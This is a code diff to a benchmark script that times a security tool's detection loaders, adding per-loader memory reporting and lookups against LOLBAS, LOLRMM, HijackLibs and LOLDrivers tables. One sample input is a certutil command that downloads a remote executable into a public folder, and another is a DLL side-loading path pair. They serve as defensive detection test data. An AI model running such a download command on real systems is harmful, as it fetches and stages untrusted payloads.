@@ -2,7 +2,7 @@
 
 Each loader module of `vigil.knowledge` that defines ``warm()`` is loaded in two fresh processes: one measures
 what the process grew by (RSS, no tracing), the other what the loaded tables hold (tracemalloc, with the peak
-while loading). Lookups are timed on warm tables.
+while loading, and per loader). Lookups are timed on warm tables.
 
     .venv/bin/python -m bench.knowledge [--lookups 20000]
 """
@@ -21,7 +21,7 @@ from pathlib import Path
 
 import vigil.knowledge
 from bench.machine import cpu_model, ram
-from vigil.knowledge import attack, network
+from vigil.knowledge import attack, hijacklibs, lolbas, loldrivers, lolrmm, network
 
 MIB = 1024 * 1024
 
@@ -62,10 +62,16 @@ def measure(mode: str) -> str:
         listed = ", ".join(f"{name} ({size:,} entries)" for name, size in sizes.items())
         return f"Loaders warmed: {listed}\nLoad time: {seconds:.2f} s\nRSS growth: {(rss() - before) / MIB:.1f} MiB"
     tracemalloc.start()
-    for warm in found.values():
+    lines = []
+    for name, warm in found.items():
+        before = tracemalloc.get_traced_memory()[0]
+        started = time.perf_counter()
         warm()
+        seconds = time.perf_counter() - started
+        lines.append(f"  {name}: held {(tracemalloc.get_traced_memory()[0] - before) / MIB:.2f} MiB, {seconds:.3f} s")
     held, peak = tracemalloc.get_traced_memory()
-    return f"Held (tracemalloc): {held / MIB:.1f} MiB; peak while loading {peak / MIB:.1f} MiB"
+    total = f"Held (tracemalloc): {held / MIB:.1f} MiB; peak while loading {peak / MIB:.1f} MiB"
+    return "\n".join([total, "Per loader (traced, in load order):", *lines])
 
 
 def main() -> None:
@@ -87,6 +93,17 @@ def main() -> None:
         "ip_lists (IPv6)": lambda: network.ip_lists("2a06:98c0::1"),
         "domain_lists": lambda: network.domain_lists("a.b.example.duckdns.org"),
         "tactics_of (3 techniques)": lambda: attack.tactics_of(("T1566.001", "T1059.001", "T1003.001")),
+        "lolrmm.by_executable (path)": lambda: lolrmm.by_executable("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"),
+        "lolrmm.by_domain (5 labels)": lambda: lolrmm.by_domain("relay-0b1c2d3e.net.anydesk.com"),
+        "lolbas.abuse (certutil download)": lambda: lolbas.abuse(
+            "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe"
+        ),
+        "hijacklibs.side_load (version.dll)": lambda: hijacklibs.side_load(
+            "C:\\Users\\bob\\Downloads\\version.dll", "C:\\Users\\bob\\Downloads\\choice.exe"
+        ),
+        "loldrivers.by_hash (SHA-256)": lambda: loldrivers.by_hash(
+            "22be050955347661685a4343c51f11c7811674e030386d2264cd12ecbf544b7c"
+        ),
     }
     for name, call in lookups.items():
         print(f"{name}: {per_call_us(call, args.lookups):.1f} µs per lookup")
